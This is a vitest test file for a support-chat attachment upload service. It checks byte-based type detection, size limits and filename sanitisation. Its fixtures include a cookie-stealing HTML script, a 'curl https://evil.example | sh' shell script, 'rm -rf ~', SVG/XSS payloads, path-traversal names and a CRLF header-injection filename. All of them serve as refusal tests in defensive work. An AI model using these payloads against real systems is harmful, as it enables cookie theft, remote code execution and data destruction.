import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultAllowedTypes, sanitiseFileName } from '../../src/files/file-types.js';
import { judge } from '../../src/files/inspect.js';
import { expectFailure, expectFieldError, guestWithConversation, type Who } from '../rest/helpers.js';
import { request, type TestServer } from '../support/server.js';
import { announce, complete, download, NOTHING_STORED, PDF, pngWithMetadata, putBytes, rawPut, startServerOn, storedSizes, upload, uploaded } from './helpers.js';

/**
 * Issue 14: the bytes decide what a file is. A name or a declared type that lies is refused,
 * and what is refused is gone at once; names are made safe for storage, JSON and headers.
 */
const MAX_BYTES = 64 * 1024;

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
const MZ = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), Buffer.from('This program cannot be run in DOS mode.')]);
const HTML = Buffer.from('<!doctype html><html><body><script>fetch("/steal?c="+document.cookie)</script></body></html>\n');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script></svg>\n');
const SCRIPT = '<html><script>alert(1)</script>';

describe.each(['disk', 's3'] as const)('the bytes decide, on %s', (store) => {
  let server: TestServer;
  let guest: Awaited<ReturnType<typeof guestWithConversation>>;
  let who: Who;

  beforeAll(async () => {
    server = await startServerOn(store, { ATTACHMENT_MAX_BYTES: String(MAX_BYTES) });
    guest = await guestWithConversation(server);
    who = { guestId: guest.guestId };
  });
  afterAll(() => server.close());

  const attachmentCount = async () => Number((await server.db.selectFrom('attachments').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);

  /** A refused upload leaves nothing: no attachment to ask for, no bytes in the store. */
  async function expectGone(attachmentId: string) {
    expectFailure(await request(server, `/api/support/attachments/${attachmentId}`, who), 404, 'Attachment not found');
    expectFailure(await complete(server, who, attachmentId), 404);
    expect(await storedSizes(server, attachmentId)).toEqual(NOTHING_STORED);
  }

  it.each([
    ['a PNG named .pdf, declared a PDF', 'report.pdf', 'application/pdf', 'png', /does not match/],
    ['a PNG named .png, declared a PDF', 'report.png', 'application/pdf', 'png', /does not match its type/],
    ['a PDF named .png, declared a PNG', 'shot.png', 'image/png', 'pdf', /does not match/],
    ['an HTML page named .png, declared a PNG', 'shot.png', 'image/png', 'html', /not allowed/],
    ['an SVG with <script> named .png, declared a PNG', 'logo.png', 'image/png', 'svg', /not allowed/],
    ['an ELF executable named .txt', 'notes.txt', 'text/plain', 'elf', /not allowed/],
    ['an MZ (Windows) executable named .txt', 'notes.txt', 'text/plain', 'mz', /not allowed/],
    ['a shell script named .txt', 'notes.txt', 'text/plain', 'shell', /not allowed/],
    ['HTML named .txt, declared nothing', 'notes.txt', '', 'html', /not allowed/],
  ])('refuses %s at complete (415) and deletes it', async (_, name, type, kind, reason) => {
    const bytes = {
      png: await pngWithMetadata(),
      pdf: PDF,
      html: HTML,
      svg: SVG,
      elf: ELF,
      mz: MZ,
      shell: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
    }[kind]!;
    const { created, put, completed } = await upload(server, who, guest.conversationId, { name, bytes, type });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(put?.status).toBe(200);
    expectFailure(completed!, 415, reason);
    await expectGone(created.body.data.attachmentId);
  });

  it.each([
    ['an SVG named .svg', 'logo.svg', 'image/svg+xml'],
    ['an SVG named .svg, declared nothing', 'logo.svg', ''],
    ['an SVG named .svg, declared a PNG', 'logo.svg', 'image/png'],
    ['an HTML page', 'page.html', 'text/html'],
    ['a text file declared as HTML', 'notes.txt', 'text/html'],
    ['an executable by its name', 'setup.exe', 'application/octet-stream'],
    ['a script by its name', 'run.PS1', 'text/plain'],
  ])('refuses %s at create (415), before any byte is sent', async (_, name, type) => {
    const before = await attachmentCount();
    const created = await announce(server, who, guest.conversationId, { name, bytes: SVG, type });
    expectFailure(created, 415, 'This type of file is not allowed');
    expect(created.body.data).toBeUndefined();
    expect(await attachmentCount()).toBe(before);
  });

  it('accepts a PNG with a page appended (a polyglot) as an image, and serves it without the script', async () => {
    const png = await pngWithMetadata();
    const polyglot = Buffer.concat([png, Buffer.from(`${SCRIPT}</html>`)]);
    expect(polyglot.includes(SCRIPT)).toBe(true);
    const file = await uploaded(server, who, guest.conversationId, { name: 'screenshot.png', bytes: polyglot, type: 'image/png' });
    expect(file).toMatchObject({ contentType: 'image/png', width: 64, height: 48 });
    const served = await download(server, file.url, who);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.bytes.subarray(0, 8).equals(png.subarray(0, 8))).toBe(true);
    expect(served.bytes.includes('<script')).toBe(false);
    expect(served.bytes.includes('alert(1)')).toBe(false);
    expect(file.size).toBe(served.bytes.length);
  });

  it('refuses an empty file at create, naming size', async () => {
    const before = await attachmentCount();
    const created = await announce(server, who, guest.conversationId, { name: 'empty.txt', bytes: Buffer.alloc(0), type: 'text/plain' });
    expectFieldError(created, 'size');
    expect(created.body.errors.find((e: { field: string }) => e.field === 'size').message).toBe('The file is empty');
    expect(await attachmentCount()).toBe(before);
  });

  it('refuses one byte over ATTACHMENT_MAX_BYTES at create (413)', async () => {
    const created = await announce(server, who, guest.conversationId, { name: 'big.txt', bytes: Buffer.alloc(0), size: MAX_BYTES + 1, type: 'text/plain' });
    expectFailure(created, 413, 'File is larger than 0.1 MB');
    // Exactly the limit is fine.
    const exact = await uploaded(server, who, guest.conversationId, { name: 'big.txt', bytes: Buffer.alloc(MAX_BYTES, 'a'), type: 'text/plain' });
    expect(exact).toMatchObject({ size: MAX_BYTES, contentType: 'text/plain' });
  });

  it('refuses an upload one byte longer than announced, and stores none of it', async () => {
    const honest = { name: 'log.txt', bytes: Buffer.alloc(MAX_BYTES, 'b'), type: 'text/plain' };
    const created = await announce(server, who, guest.conversationId, honest);
    expect(created.status).toBe(201);
    const put = await putBytes(server, created, Buffer.concat([honest.bytes, Buffer.from('c')]));
    const id = created.body.data.attachmentId;
    if (store === 'disk' || put.status !== 200) {
      // The local store says so itself (as AWS does for a body its presigned length does not cover).
      if (store === 'disk') expect({ status: put.status, body: JSON.parse(put.text) }).toEqual({ status: 413, body: { success: false, message: 'File is larger than 0.1 MB' } });
      expect(await storedSizes(server, id)).toEqual(NOTHING_STORED);
      expectFailure(await complete(server, who, id), 409, 'The file has not been uploaded yet');
    } else {
      // A bucket that took it anyway (s3rver does not check the signed length): complete measures it.
      expectFailure(await complete(server, who, id), 413, 'File is larger than 0.1 MB');
      await expectGone(id);
    }
  });

  // Only the local-disk store takes uploads through the server (S3 uploads never reach it).
  if (store === 'disk') it('refuses a body without Content-Length once it passes the announced size (chunked), and stores none of it', async () => {
    const created = await announce(server, who, guest.conversationId, { name: 'small.txt', bytes: Buffer.alloc(100, 'a'), type: 'text/plain' });
    const { url, headers } = created.body.data.upload;
    const put = await rawPut(new URL(url, server.url), headers, Buffer.alloc(5000, 'a'));
    expect(put.status).toBe(413);
    expect(JSON.parse(put.text!)).toEqual({ success: false, message: 'The upload is larger than the size announced' });
    const id = created.body.data.attachmentId;
    expect(await storedSizes(server, id)).toEqual(NOTHING_STORED);
    expectFailure(await complete(server, who, id), 409, 'The file has not been uploaded yet');
  });

  it('refuses an upload shorter than announced at complete, and deletes it', async () => {
    const { created, completed } = await upload(server, who, guest.conversationId, { name: 'short.txt', bytes: Buffer.from('abc'), size: 10, type: 'text/plain' });
    expectFailure(completed!, 400, 'The upload has 3 bytes, not the 10 announced');
    await expectGone(created.body.data.attachmentId);
  });

  it('stores a hostile name sanitised and sends a single safe Content-Disposition line', async () => {
    const hostile = [
      `../../etc/"pass"\r\nSet-Cookie: stolen=1\r\n${'w'.repeat(300)}.txt`,
      `../../etc/pass"wd\r\n${'x'.repeat(300)}.txt`,
      '../../etc/passwd.txt',
      '..\\..\\windows\\win.ini.txt',
    ];
    const names: string[] = [];
    for (const name of hostile) {
      const file = await uploaded(server, who, guest.conversationId, { name, bytes: Buffer.from('root:x:0:0\n'), type: 'text/plain' });
      expect(file.name).not.toMatch(/[/\\"\r\n]/);
      expect(file.name.length).toBeLessThanOrEqual(200);
      expect(file.name).toMatch(/^[^.].*\.txt$/);
      expect((await request(server, `/api/support/attachments/${file.id}`, who)).body.data.name).toBe(file.name);
      const served = await download(server, file.url, who);
      expect(served.status).toBe(200);
      expect(served.headers.get('content-disposition')).toBe(`attachment; filename="${file.name}"`);
      expect(served.headers.get('set-cookie')).toBeNull();
      names.push(file.name);
    }
    expect(names).toEqual([`passSet-Cookie: stolen=1${'w'.repeat(172)}.txt`, `passwd${'x'.repeat(190)}.txt`, 'passwd.txt', 'win.ini.txt']);
  });

  it('keeps a name outside ASCII readable (filename* in the header, on one line), even cut at an emoji', async () => {
    const file = await uploaded(server, who, guest.conversationId, { name: '报告 "final"\n.txt', bytes: Buffer.from('x\n'), type: 'text/plain' });
    expect(file.name).toBe('报告 final.txt');
    const disposition = (await download(server, file.url, who)).headers.get('content-disposition')!;
    expect(disposition).not.toMatch(/[\r\n]/);
    expect(disposition).toContain(`filename*=UTF-8''${encodeURIComponent('报告 final.txt')}`);

    const emoji = await uploaded(server, who, guest.conversationId, { name: `${'a'.repeat(195)}😀😀😀.txt`, bytes: Buffer.from('x\n'), type: 'text/plain' });
    expect(emoji.name).toBe(`${'a'.repeat(195)}.txt`);
    const served = await download(server, emoji.url, who);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-disposition')).toBe(`attachment; filename="${emoji.name}"`);
  });

  it('accepts plain text and CSV, and serves them as text to save', async () => {
    const cases = [
      { name: 'notes.txt', type: 'text/plain', text: 'order 1234 — “thanks” <b>bold</b>\n', expected: 'text/plain' },
      { name: 'notes.log', type: '', text: 'line 1\nline 2\n', expected: 'text/plain' },
      { name: 'orders.csv', type: 'text/csv', text: 'order,qty\n1234,2\n', expected: 'text/csv' },
      { name: 'orders.csv', type: 'application/vnd.ms-excel', text: 'order,qty\n1234,2\n', expected: 'text/csv' },
      { name: 'orders.csv', type: '', text: 'order,qty\n1234,2\n', expected: 'text/csv' },
    ];
    for (const { name, type, text, expected } of cases) {
      const file = await uploaded(server, who, guest.conversationId, { name, bytes: Buffer.from(text), type });
      expect(file, `${name} as ${type}`).toMatchObject({ name, contentType: expected, size: Buffer.byteLength(text) });
      expect(file.width).toBeUndefined();
      expect(file.thumbnailUrl).toBeUndefined();
      const served = await download(server, file.url, who);
      expect(served.headers.get('content-type')).toBe(`${expected}; charset=utf-8`);
      expect(served.headers.get('content-disposition')).toMatch(/^attachment; /);
      expect(served.headers.get('x-content-type-options')).toBe('nosniff');
      expect(served.bytes.toString()).toBe(text);
    }
  });
});

describe('judge()', () => {
  const allowed: ReadonlySet<string> = new Set(defaultAllowedTypes);
  const text = (value: string | Buffer, name = 'notes.txt', declared = 'text/plain') =>
    judge({ signature: undefined, head: Buffer.isBuffer(value) ? value : Buffer.from(value), name, declared, allowed });
  const signed = (signature: string, name: string, declared: string, types = allowed) => judge({ signature, head: Buffer.alloc(0), name, declared, allowed: types });
  const refused = (reason: string | RegExp = /./) => ({ ok: false, reason: expect.stringMatching(reason) });

  it('takes the type from the signature when name and declared type agree', () => {
    expect(signed('image/png', 'a.png', 'image/png')).toEqual({ ok: true, contentType: 'image/png' });
    expect(signed('image/png', 'A.PNG', '')).toEqual({ ok: true, contentType: 'image/png' });
    expect(signed('image/png', 'screenshot', 'application/octet-stream')).toEqual({ ok: true, contentType: 'image/png' });
    expect(signed('image/jpeg', 'photo.jfif', 'image/jpg')).toEqual({ ok: true, contentType: 'image/jpeg' });
    expect(signed('image/jpeg', 'photo.jpeg', ' Image/JPEG; q=1 ')).toEqual({ ok: true, contentType: 'image/jpeg' });
    expect(signed('application/pdf', 'a.pdf', 'application/x-pdf')).toEqual({ ok: true, contentType: 'application/pdf' });
  });

  it('refuses a signature that disagrees with the name or the declared type, saying which', () => {
    expect(signed('image/png', 'a.pdf', 'application/pdf')).toEqual(refused('does not match its name'));
    expect(signed('image/png', 'a.pdf', '')).toEqual(refused('does not match its name'));
    expect(signed('image/png', 'a.png', 'application/pdf')).toEqual(refused('does not match its type'));
    expect(signed('image/png', 'a.png', 'image/jpeg')).toEqual(refused('does not match its type'));
    expect(signed('application/pdf', 'a.txt', 'text/plain')).toEqual(refused('does not match'));
  });

  it('refuses a signature outside the allowed types, whatever the name says', () => {
    expect(signed('application/x-elf', 'notes.txt', 'text/plain')).toEqual(refused('not allowed'));
    expect(signed('application/x-msdownload', 'notes.txt', '')).toEqual(refused('not allowed'));
    expect(signed('image/svg+xml', 'a.png', 'image/png')).toEqual(refused('not allowed'));
    expect(signed('image/png', 'a.png', 'image/png', new Set(['application/pdf']))).toEqual(refused('not allowed'));
  });

  it('names legacy Office files by their extension, and refuses an unnamed container', () => {
    expect(signed('application/x-cfb', 'budget.xls', '')).toEqual({ ok: true, contentType: 'application/vnd.ms-excel' });
    expect(signed('application/x-cfb', 'letter.DOC', 'application/msword')).toEqual({ ok: true, contentType: 'application/msword' });
    expect(signed('application/x-cfb', 'letter.doc', 'application/vnd.ms-excel')).toEqual(refused('does not match its type'));
    expect(signed('application/x-cfb', 'thing.msi', '')).toEqual(refused('not allowed'));
  });

  it('takes UTF-8 without markup as text, CSV by its name or declared type', () => {
    expect(text('hello\n')).toEqual({ ok: true, contentType: 'text/plain' });
    expect(text('a,b\n1,2\n', 'data.csv', '')).toEqual({ ok: true, contentType: 'text/csv' });
    expect(text('a,b\n1,2\n', 'data.csv', 'text/plain')).toEqual({ ok: true, contentType: 'text/csv' });
    expect(text('a,b\n1,2\n', 'export', 'text/csv')).toEqual({ ok: true, contentType: 'text/csv' });
    expect(text('a,b\n', 'data.csv', 'application/vnd.ms-excel')).toEqual({ ok: true, contentType: 'text/csv' });
    expect(text('# Title\n', 'README.md', 'text/markdown')).toEqual({ ok: true, contentType: 'text/plain' });
    expect(text('x < y and <b>bold</b>\n')).toEqual({ ok: true, contentType: 'text/plain' });
    expect(text('\uFEFFwith a BOM\n')).toEqual({ ok: true, contentType: 'text/plain' });
    // A character cut by the end of the sample is not an error.
    const cut = Buffer.from('price: 5 €');
    expect(text(cut.subarray(0, cut.length - 1))).toEqual({ ok: true, contentType: 'text/plain' });
  });

  it('refuses text a browser or a shell would run, binary without a signature, and nothing at all', () => {
    for (const page of ['<html>hi', '  < SCRIPT >alert(1)', '<?xml version="1.0"?><svg/>', 'hello\n<iframe src=x>', '<!DOCTYPE html>', '<svg onload=alert(1)>']) {
      expect(text(page), page).toEqual(refused('not allowed'));
    }
    expect(text('#!/bin/sh\nrm -rf ~\n')).toEqual(refused('not allowed'));
    expect(text('\uFEFF#!/usr/bin/env node\n')).toEqual(refused('not allowed'));
    expect(text(Buffer.from([0x68, 0x69, 0x00, 0x01]))).toEqual(refused('not allowed'));
    expect(text(Buffer.from([0xff, 0xfe, 0x41, 0x42]))).toEqual(refused('not allowed'));
    expect(text(Buffer.alloc(0))).toEqual(refused('The file is empty'));
  });

  it('refuses text under a name or declared type of another kind', () => {
    expect(text('hello', 'invoice.pdf', '')).toEqual(refused('does not match its name'));
    expect(text('hello', 'notes.txt', 'application/pdf')).toEqual(refused('does not match its type'));
    expect(text('hello', 'notes.txt', 'image/png')).toEqual(refused('does not match its type'));
  });
});

describe('sanitiseFileName()', () => {
  it.each([
    ['report.pdf', 'report.pdf'],
    ['../../etc/passwd', 'passwd'],
    ['C:\\Users\\me\\Desktop\\scan.png', 'scan.png'],
    ['folder/sub/', 'file'],
    ['', 'file'],
    ['...', 'file'],
    ['  .bashrc', 'bashrc'],
    ['   ', 'file'],
    ['say "hi".txt', 'say hi.txt'],
    ['line\r\nbreak\t.txt', 'linebreak.txt'],
    ['nul\u0000byte.txt', 'nulbyte.txt'],
    ['\u0085next\u009fline.txt', 'nextline.txt'],
    ['invoice\u202Etxt.exe', 'invoicetxt.exe'],
    ['\u2066isolate\u2069\u200e\u200f.pdf', 'isolate.pdf'],
    ['e\u0301te\u0301.txt', 'été.txt'],
    ['résumé (final) [2].docx', 'résumé (final) [2].docx'],
  ])('%j → %j', (name, expected) => {
    expect(sanitiseFileName(name)).toBe(expected);
  });

  it('cuts a long name to 200 characters, keeping its extension', () => {
    const long = sanitiseFileName(`${'a'.repeat(300)}.txt`);
    expect(long).toBe(`${'a'.repeat(196)}.txt`);
    expect(sanitiseFileName('b'.repeat(300))).toBe('b'.repeat(200));
    // The cut does not leave a space before the extension.
    expect(sanitiseFileName(`${'c'.repeat(195)}   x.pdf`)).toBe(`${'c'.repeat(195)}.pdf`);
    expect(sanitiseFileName(`${'a'.repeat(200)}.txt`)).toHaveLength(200);
    // An "extension" too long to be one is cut like the rest.
    expect(sanitiseFileName(`${'e'.repeat(195)}.${'x'.repeat(20)}`)).toBe(`${'e'.repeat(195)}.xxxx`);
    expect(sanitiseFileName(`${'f'.repeat(200)}`)).toBe('f'.repeat(200));
  });

  it('never cuts a character in half (an emoji at the cut)', () => {
    const name = sanitiseFileName(`${'a'.repeat(195)}😀😀😀.txt`);
    expect(name.length).toBeLessThanOrEqual(200);
    expect(name).toMatch(/\.txt$/);
    expect(Buffer.from(name).toString()).toBe(name);
  });
});
